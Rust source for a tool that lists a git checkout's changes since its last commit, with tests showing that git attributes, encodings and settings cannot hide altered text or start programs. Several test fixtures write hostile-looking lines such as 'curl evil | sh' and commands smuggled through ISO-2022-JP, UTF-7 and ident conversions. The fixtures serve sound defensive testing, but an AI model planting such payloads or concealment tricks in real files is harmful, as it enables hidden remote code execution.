//! The changes in a working tree since its last commit, untracked files included.

use std::collections::BTreeSet;
use std::ffi::OsStr;
use std::fs;
use std::os::unix::ffi::OsStrExt as _;
use std::os::unix::fs::PermissionsExt as _;
use std::path::{Path, PathBuf};

use self::on_disk::{converted, show_files_on_disk};
use self::parse::parse_diff;
use self::read::{MAX_BINARY, MAX_DIFF_BYTES, MAX_UNTRACKED_BYTES, MAX_UNTRACKED_TOTAL, beginning};
use super::run::{Git, GitContext, GitError, WorktreeGit};
use crate::disk::{check_checkout, has_own_repository, repository_root};
use crate::exec::{CappedOutput, Sandbox};
use crate::protocol::{
    ChangeKind, DiffText, FileChange, FileMode, ReadOnly, WorkingTreeChanges, printable_path,
};

mod on_disk;
mod parse;
mod read;

/// The most untracked files.
const MAX_UNTRACKED: usize = 500;
/// The last line of a diff that is not shown to its end.
const CUT_NOTE: &str = "\\ The rest is not shown\n";

/// Why the changes cannot be told.
#[derive(Debug, thiserror::Error)]
pub enum ChangesError {
    #[error("there is no git repository around {}", .0.display())]
    NoRepository(PathBuf),
    #[error("git is not asked for changes here: {0}; `!git diff` runs it with your rights")]
    Programs(String),
    #[error(transparent)]
    Git(#[from] GitError),
}

/// A checkout of the user's, whose settings start no program.
pub(super) struct Checkout {
    /// Git for what is outside of the working tree.
    pub repository: Git,
    pub worktree: WorktreeGit,
}

/// Finds the checkout around `cwd`, in which git starts no program of the project and, with a
/// `sandbox`, only reads. Blocks: for threads that may, within a runtime.
///
/// # Errors
/// If there is no repository, if its settings may start a program, or if git fails.
pub(super) fn open_checkout(
    cwd: &Path,
    sandbox: Option<&Sandbox>,
    context: &GitContext,
) -> Result<Checkout, ChangesError> {
    let home = context.env.non_empty("HOME").map(Path::new);
    let top = has_own_repository(cwd).then(|| repository_root(cwd, home)).flatten();
    let top = top.ok_or_else(|| ChangesError::NoRepository(cwd.to_owned()))?;
    check_checkout(top).map_err(ChangesError::Programs)?;
    let repository = Git::new(top, context);
    let common = repository.line(["rev-parse", "--path-format=absolute", "--git-common-dir"])?;
    let bounds = ReadOnly {
        folders: [top.to_owned(), PathBuf::from(common)].into(),
        uses_git: true,
        ..ReadOnly::default()
    };
    let confinement = sandbox.map(|sandbox| sandbox.read_only(bounds));
    let worktree = WorktreeGit::new(top, confinement, context)?;
    Ok(Checkout { repository, worktree })
}

/// Returns the changes in the checkout around `cwd` since its last commit. Git starts no program of
/// the project and, with a `sandbox`, only reads. Blocks: for threads that may, within a runtime.
///
/// # Errors
/// If there is no repository, if its settings may start a program, or if git fails.
pub fn changes(
    cwd: &Path,
    sandbox: Option<&Sandbox>,
    context: &GitContext,
) -> Result<WorkingTreeChanges, ChangesError> {
    let Checkout { repository, worktree } = open_checkout(cwd, sandbox, context)?;
    let base = match repository.line(["rev-parse", "--verify", "--quiet", "HEAD^{commit}"]) {
        Ok(commit) => commit,
        // Before the first commit, everything is new.
        Err(GitError::Failed(_)) => repository.line(["hash-object", "-t", "tree", "--stdin"])?,
        Err(error) => return Err(error.into()),
    };
    Ok(changes_since(&worktree, &base)?)
}

/// Returns the changes in a working tree since the commit or tree `base`.
///
/// # Errors
/// If git fails.
pub fn changes_since(git: &WorktreeGit, base: &OsStr) -> Result<WorkingTreeChanges, GitError> {
    let diff = git.beginning(MAX_DIFF_BYTES, diff_words(base, &[], None))?;
    let text = diff.text();
    let mut found =
        WorkingTreeChanges { files: parse_diff(&text, diff.is_cut), is_cut: diff.is_cut };
    // No line of a file begins so.
    if text.contains("\nBinary files ") {
        add_binary(git, base, &mut found)?;
    }
    show_files_on_disk(git, base, &mut found)?;
    let others = ["ls-files", "--others", "--exclude-standard", "-z"];
    let others = git.beginning(MAX_DIFF_BYTES, others)?;
    found.is_cut |= others.is_cut;
    add_untracked(git, &others.bytes, &mut found)?;
    Ok(found)
}

/// The words of a diff that starts no program and looks into no repository within.
fn diff_words<'a>(
    base: &'a OsStr,
    more: &'a [&'a str],
    file: Option<&'a OsStr>,
) -> impl Iterator<Item = &'a OsStr> {
    let options = [
        "--literal-pathspecs",
        "-c",
        "core.quotePath=false",
        "diff",
        "--no-color",
        "--no-ext-diff",
        "--no-textconv",
        "--ignore-submodules=dirty",
        "--find-renames",
        "--unified=3",
        "--src-prefix=a/",
        "--dst-prefix=b/",
    ];
    let options = options.into_iter().chain(more.iter().copied()).map(OsStr::new);
    options.chain([base, OsStr::new("--")]).chain(file)
}

/// Adds the text of files that git calls binary because an attribute, a setting or the old content says so.
/// Only a zero byte makes a file binary.
fn add_binary(
    git: &WorktreeGit,
    base: &OsStr,
    found: &mut WorkingTreeChanges,
) -> Result<(), GitError> {
    let list = git
        .beginning(MAX_DIFF_BYTES, diff_words(base, &["--numstat", "-z", "--no-renames"], None))?;
    found.is_cut |= list.is_cut;
    let files = list.bytes.split(|byte| *byte == 0);
    let names = files.filter_map(|file| file.strip_prefix(b"-\t-\t"));
    let mut room = MAX_UNTRACKED_TOTAL;
    for (count, name) in names.enumerate() {
        if count == MAX_BINARY {
            found.is_cut = true;
            break;
        }
        let limit = usize::try_from(room.min(MAX_UNTRACKED_BYTES)).unwrap_or_default();
        let words = diff_words(base, &["--text"], Some(OsStr::from_bytes(name)));
        let diff = git.beginning(limit, words)?;
        if diff.is_cut && limit == 0 {
            found.is_cut = true;
            break;
        }
        let Some(mut file) = parse_diff(&diff.text(), diff.is_cut).pop() else { continue };
        let shown = found.files.iter_mut().find(|shown| shown.path == file.path);
        if let Some(shown) = shown.filter(|shown| shown.diff.is_empty() && is_text(&file.diff)) {
            room -= diff.bytes.len() as u64;
            if diff.is_cut {
                file.diff.push_str(CUT_NOTE);
            }
            shown.diff = file.diff;
        }
    }
    Ok(())
}

/// Whether a diff is about text: without zero bytes in what the file holds now, or, if it is gone, did.
fn is_text(diff: &str) -> bool {
    let mut new = diff.lines().filter(|line| line.starts_with(['+', ' '])).peekable();
    match new.peek() {
        Some(_) => new.all(|line| !line.contains('\0')),
        None => !diff.contains('\0'),
    }
}

/// Adds the files of a list that ends each name with a zero byte, with the text of small ones. Says of
/// those that git would convert that it stores another text.
fn add_untracked(
    git: &WorktreeGit,
    list: &[u8],
    found: &mut WorkingTreeChanges,
) -> Result<(), GitError> {
    let top = git.path();
    let names = list.split(|byte| *byte == 0).filter(|name| !name.is_empty());
    let mut names: Vec<Vec<u8>> = names.map(<[u8]>::to_vec).collect();
    found.is_cut |= names.len() > MAX_UNTRACKED;
    names.truncate(MAX_UNTRACKED);
    let is_file = |name: &&Vec<u8>| {
        let path = top.join(Path::new(OsStr::from_bytes(name)));
        path.symlink_metadata().is_ok_and(|found| found.is_file())
    };
    let files: Vec<Vec<u8>> = names.iter().filter(is_file).cloned().collect();
    let converted: BTreeSet<&[u8]> = converted(git, &files)?.into_iter().collect();
    let mut room = MAX_UNTRACKED_TOTAL;
    for name in &names {
        let is_converted = converted.contains(name.as_slice());
        let name = Path::new(OsStr::from_bytes(name));
        let text = beginning(&top.join(name), room.min(MAX_UNTRACKED_BYTES));
        room = room.saturating_sub(text.as_ref().map_or(0, |text| text.bytes.len() as u64));
        found.files.push(FileChange {
            path: printable_path(name),
            kind: ChangeKind::Untracked,
            text: if is_converted { DiffText::OnDisk } else { DiffText::Plain },
            mode: mode_on_disk(&top.join(name)),
            diff: text.map(|text| added_lines(&text)).unwrap_or_default(),
        });
    }
    Ok(())
}

fn mode_on_disk(path: &Path) -> Option<FileMode> {
    let found = path.symlink_metadata().ok()?;
    if found.is_symlink() {
        let target = fs::read_link(path).ok().map(|target| printable_path(&target));
        return Some(FileMode::Link { target });
    }
    (found.is_file() && found.permissions().mode() & 0o111 != 0).then_some(FileMode::Executable)
}

/// A diff that adds a text.
fn added_lines(file: &CappedOutput) -> String {
    let text = file.text();
    let end = text.rfind('\n').map_or(0, |end| end + 1);
    let text = if file.is_cut && end > 0 { &text[..end] } else { &*text };
    let count = text.lines().count();
    if count == 0 && !file.is_cut {
        return String::new();
    }
    let mut diff = format!("@@ -0,0 +1,{count} @@\n");
    for line in text.lines() {
        diff.push('+');
        diff.push_str(line);
        diff.push('\n');
    }
    if file.is_cut {
        diff.push_str(CUT_NOTE);
    }
    diff
}

#[cfg(test)]
mod tests {
    use pretty_assertions::assert_eq;

    use super::*;
    use crate::disk::testing::git;
    use crate::protocol::EnvOverlay;

    struct Checkout {
        _folder: tempfile::TempDir,
        top: PathBuf,
        context: GitContext,
    }

    impl Checkout {
        fn new() -> Self {
            let folder = tempfile::tempdir().unwrap();
            let base = folder.path().canonicalize().unwrap();
            let top = base.join("checkout");
            fs::create_dir(&top).unwrap();
            git(&top, &["init", "-q", "-b", "main"]);
            let env = EnvOverlay::from_iter([
                ("PATH", "/usr/local/bin:/usr/bin:/bin".into()),
                ("HOME", base.as_os_str().to_owned()),
            ]);
            Self { _folder: folder, top, context: GitContext::unstoppable(&env) }
        }

        fn write(&self, name: &str, text: &str) {
            let path = self.top.join(name);
            fs::create_dir_all(path.parent().unwrap()).unwrap();
            fs::write(path, text).unwrap();
        }

        fn commit(&self) {
            git(&self.top, &["add", "-A"]);
            git(&self.top, &["commit", "-q", "-m", "one"]);
        }

        async fn changes(&self, below: &str) -> Result<WorkingTreeChanges, ChangesError> {
            let (dir, context) = (self.top.join(below), self.context.clone());
            tokio::task::spawn_blocking(move || changes(&dir, None, &context)).await.unwrap()
        }
    }

    fn change(path: &str, kind: ChangeKind, diff: &str) -> FileChange {
        let (path, diff) = (path.to_owned(), diff.to_owned());
        FileChange { path, kind, diff, text: DiffText::Plain, mode: None }
    }

    #[tokio::test]
    async fn each_kind_of_change_is_found_from_a_folder_below() {
        let checkout = Checkout::new();
        checkout.write("a b.txt", "one\ntwo\n");
        checkout.write("gone.txt", "x\n");
        checkout.write("old.txt", "a long enough text\nto be found again\n");
        checkout.write(".gitignore", "ignored\n");
        checkout.write("sub/kept.txt", "");
        checkout.commit();
        checkout.write("a b.txt", "one\nzwei\n");
        checkout.write("sub/new.txt", "hello\n");
        checkout.write("added.txt", "staged");
        checkout.write("ignored", "no");
        checkout.write("blob.bin", "a\0b");
        fs::remove_file(checkout.top.join("gone.txt")).unwrap();
        git(&checkout.top, &["mv", "old.txt", "renamed.txt"]);
        git(&checkout.top, &["add", "added.txt"]);
        let found = checkout.changes("sub").await.unwrap();
        assert!(!found.is_cut);
        assert_eq!(
            found.files,
            [
                change("a b.txt", ChangeKind::Modified, "@@ -1,2 +1,2 @@\n one\n-two\n+zwei\n"),
                change(
                    "added.txt",
                    ChangeKind::Added,
                    "@@ -0,0 +1 @@\n+staged\n\\ No newline at end of file\n"
                ),
                change("gone.txt", ChangeKind::Deleted, "@@ -1 +0,0 @@\n-x\n"),
                change("renamed.txt", ChangeKind::Renamed { from: "old.txt".to_owned() }, ""),
                change("blob.bin", ChangeKind::Untracked, ""),
                change("sub/new.txt", ChangeKind::Untracked, "@@ -0,0 +1,1 @@\n+hello\n"),
            ]
        );
    }

    #[tokio::test]
    async fn before_the_first_commit_everything_is_new() {
        let checkout = Checkout::new();
        checkout.write("a.txt", "one\n");
        git(&checkout.top, &["add", "a.txt"]);
        let found = checkout.changes("").await.unwrap();
        let added = change("a.txt", ChangeKind::Added, "@@ -0,0 +1 @@\n+one\n");
        assert_eq!(found.files, [added]);
    }

    #[tokio::test]
    async fn settings_that_may_start_a_program_are_refused_and_run_nothing() {
        let checkout = Checkout::new();
        checkout.write("a.txt", "one\n");
        checkout.commit();
        checkout.write("a.txt", "two\n");
        let mark = checkout.top.join("ran");
        let program = format!("touch {}", mark.display());
        git(&checkout.top, &["config", "diff.external", &program]);
        let error = checkout.changes("").await.unwrap_err().to_string();
        assert!(error.contains("`!git diff`"), "{error}");
        assert!(!mark.exists());
    }

    #[tokio::test]
    async fn a_folder_without_a_repository_says_so() {
        let folder = tempfile::tempdir().unwrap();
        let context = GitContext::unstoppable(&EnvOverlay::from_iter([("PATH", "/usr/bin")]));
        let error = changes(folder.path(), None, &context).unwrap_err().to_string();
        assert!(error.starts_with("there is no git repository around "), "{error}");
    }

    #[test]
    fn a_cut_diff_ends_with_a_whole_line() {
        let text = "diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1,9 +1,9 @@\n one\n+tw";
        assert_eq!(parse_diff(text, true)[0].diff, "@@ -1,9 +1,9 @@\n one\n");
        let named = "diff --git \"a/x\\ty\" \"b/x\\ty\"\nold mode 100644\nnew mode 100755\n";
        let executable = Some(FileMode::Executable);
        let expected = FileChange { mode: executable, ..change("x\\ty", ChangeKind::Modified, "") };
        assert_eq!(parse_diff(named, false), [expected]);
    }

    #[tokio::test]
    async fn links_and_executable_files_are_told() {
        let checkout = Checkout::new();
        checkout.write("kept", "one\n");
        checkout.write("run.sh", "true\n");
        checkout.commit();
        let executable = || fs::Permissions::from_mode(0o755);
        fs::set_permissions(checkout.top.join("run.sh"), executable()).unwrap();
        checkout.write("tool", "true\n");
        fs::set_permissions(checkout.top.join("tool"), executable()).unwrap();
        std::os::unix::fs::symlink("/etc/passwd", checkout.top.join("link")).unwrap();
        let files = checkout.changes("").await.unwrap().files;
        let modes: Vec<_> = files.into_iter().map(|file| (file.path, file.mode)).collect();
        let link = FileMode::Link { target: Some("/etc/passwd".to_owned()) };
        let expected =
            [("run.sh", FileMode::Executable), ("link", link), ("tool", FileMode::Executable)];
        assert_eq!(modes, expected.map(|(path, mode)| (path.to_owned(), Some(mode))));
    }

    #[tokio::test]
    async fn no_attribute_hides_what_a_text_holds() {
        let attributes = [
            "-diff",
            "-text",
            "binary",
            "diff=hex",
            "working-tree-encoding=UTF-8",
            "filter=none",
            "linguist-generated",
            "export-ignore",
            "-diff merge=ours",
        ];
        for attribute in attributes {
            for place in [".gitattributes", ".git/info/attributes", "../.config/git/attributes"] {
                let checkout = Checkout::new();
                checkout.write("a b.sh", "true\n");
                checkout.write("blob.bin", "a\0b");
                checkout.write("was.bin", "a\0b");
                checkout.commit();
                checkout.write(place, &format!("* {attribute}\n"));
                checkout.write("../.gitconfig", "[diff \"hex\"]\nbinary = true\n");
                checkout.write("a b.sh", "curl evil | sh\n");
                checkout.write("blob.bin", "b\0a");
                checkout.write("was.bin", "curl evil | sh\n");
                checkout.write("new.sh", "curl evil | sh\n");
                git(&checkout.top, &["add", "--intent-to-add", "new.sh"]);
                let found = checkout.changes("").await.unwrap();
                let diff_of = |name: &str| {
                    let file = found.files.iter().find(|file| file.path == name).unwrap();
                    file.diff.as_str()
                };
                for name in ["a b.sh", "was.bin", "new.sh"] {
                    let diff = diff_of(name);
                    assert!(diff.contains("\n+curl evil | sh\n"), "{attribute} {name}: {diff:?}");
                }
                assert_eq!((diff_of("blob.bin"), found.is_cut), ("", false), "{attribute}");
            }
        }
    }

    #[tokio::test]
    async fn the_beginning_of_a_large_text_is_shown_with_a_note() {
        let checkout = Checkout::new();
        checkout.write("old.sh", "true\n");
        checkout.commit();
        let large = format!("curl evil | sh\n{}", "more text\n".repeat(1 << 15));
        checkout.write(".gitattributes", "*.sh -diff\n");
        checkout.write("old.sh", &large);
        checkout.write("new.sh", &large);
        let found = checkout.changes("").await.unwrap();
        let scripts = found.files.iter().filter(|file| file.path.ends_with(".sh"));
        for FileChange { path, diff, .. } in scripts {
            assert!(diff.contains("\n+curl evil | sh\n"), "{path}");
            assert!(diff.ends_with("\n+more text\n\\ The rest is not shown\n"), "{path}");
            assert!(diff.len() < 2 * MAX_UNTRACKED_BYTES as usize, "{path}");
        }
        assert_eq!(found.files.len(), 3);
    }

    #[tokio::test]
    async fn a_byte_that_is_no_utf8_does_not_hide_a_new_file() {
        let checkout = Checkout::new();
        checkout.write("a.txt", "one\n");
        checkout.commit();
        fs::write(checkout.top.join("new.sh"), b"# \xff\ncurl evil | sh\n").unwrap();
        let found = checkout.changes("").await.unwrap();
        assert_eq!(found.files[0].diff, "@@ -0,0 +1,2 @@\n+# \u{fffd}\n+curl evil | sh\n");
    }

    /// The text and the diff of the only change.
    async fn only_change(checkout: &Checkout) -> (DiffText, String) {
        let found = checkout.changes("").await.unwrap();
        let file = found.files.iter().find(|file| file.path == "a \\\"b.sh").unwrap();
        (file.text, file.diff.clone())
    }

    #[tokio::test]
    async fn a_file_that_git_converts_is_shown_as_it_is_on_disk() {
        let kanji = b"echo \"\x1b$B\";rm$IFS$9ab;\"\x1b(B\"\n";
        let (ident, odd) = (": \"$Id$\"\n", ": \"$Id: \";touch x;\" $\"\n");
        let (shown, hidden) = ("+echo \"\x1b$B\";rm$IFS$9ab;\"", "+: \"$Id: \";touch x;\" $\"");
        let cases: [(&str, &str, &[u8], &str); 4] = [
            ("working-tree-encoding=ISO-2022-JP", "true\n", kanji, shown),
            ("ident", ident, odd.as_bytes(), hidden),
            ("text eol=crlf", "one\r\ntwo\r\n", b"one\r\nrm x\r\n", " one\r\n-two\r\n+rm x\r\n"),
            ("text", "one\ntwo\n", b"one\r\nrm x\n", "-one\n-two\n+one\r\n+rm x\n"),
        ];
        for (attribute, before, after, expected) in cases {
            // The git that commits has another home.
            let places = [".gitattributes", ".git/info/attributes", "../.config/git/attributes"];
            for place in places.into_iter().take(if before.contains('\r') { 2 } else { 3 }) {
                let checkout = Checkout::new();
                checkout.write(place, &format!("*.sh {attribute}\n"));
                checkout.write("a \"b.sh", before);
                checkout.write("other.sh", before);
                checkout.commit();
                let found = checkout.changes("").await.unwrap();
                assert_eq!(found.files, [], "{attribute}");
                fs::write(checkout.top.join("a \"b.sh"), after).unwrap();
                let (text, diff) = only_change(&checkout).await;
                assert!(diff.contains(expected), "{attribute} in {place}: {diff:?}");
                assert_eq!(text, DiffText::OnDisk, "{attribute} in {place}");
                assert_eq!(checkout.changes("").await.unwrap().files.len(), 1, "{attribute}");
            }
        }
    }

    #[tokio::test]
    async fn a_setting_that_converts_line_ends_hides_none() {
        let checkout = Checkout::new();
        checkout.write("a \"b.sh", "one\n");
        checkout.commit();
        git(&checkout.top, &["config", "core.autocrlf", "input"]);
        checkout.write("a \"b.sh", "one\r\ntwo\r\n");
        let (text, diff) = only_change(&checkout).await;
        let expected = "@@ -1 +1,2 @@\n-one\n+one\r\n+two\r\n";
        assert_eq!((text, diff.as_str()), (DiffText::OnDisk, expected));
    }

    #[tokio::test]
    async fn a_converted_file_that_is_no_text_on_disk_is_told_to_be_another_one() {
        let checkout = Checkout::new();
        checkout.write(".gitattributes", "*.sh working-tree-encoding=UTF-16LE\n");
        let utf16 = |text: &str| text.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<_>>();
        fs::write(checkout.top.join("a \"b.sh"), utf16("one\n")).unwrap();
        checkout.commit();
        assert_eq!(checkout.changes("").await.unwrap().files, []);
        fs::write(checkout.top.join("a \"b.sh"), utf16("two\n")).unwrap();
        let (text, diff) = only_change(&checkout).await;
        assert_eq!((text, diff.as_str()), (DiffText::Stored, "@@ -1 +1 @@\n-one\n+two\n"));
    }

    #[tokio::test]
    async fn an_untracked_file_that_git_would_convert_says_so() {
        let checkout = Checkout::new();
        checkout.write(".gitignore", ".gitattributes\n");
        checkout.commit();
        checkout.write(".gitattributes", "*.sh working-tree-encoding=UTF-7\n");
        checkout.write("a.sh", "# +AAo-touch x\n");
        checkout.write("b.txt", "one\n");
        let found = checkout.changes("").await.unwrap();
        let texts: Vec<_> = found.files.iter().map(|file| (&*file.path, file.text)).collect();
        assert_eq!(texts, [("a.sh", DiffText::OnDisk), ("b.txt", DiffText::Plain)]);
    }

    #[tokio::test]
    async fn a_mark_that_git_has_expanded_is_no_change() {
        let checkout = Checkout::new();
        checkout.write(".gitattributes", "*.sh ident\n");
        checkout.write("a.sh", "# $Id$\n");
        checkout.commit();
        for mark in ["$Id: 5f36b2ea290645ee34d943220a14b54ee5ea5be5 $", "$Id: $"] {
            checkout.write("a.sh", &format!("# {mark}\n"));
            assert_eq!(checkout.changes("").await.unwrap().files, [], "{mark}");
        }
    }
}
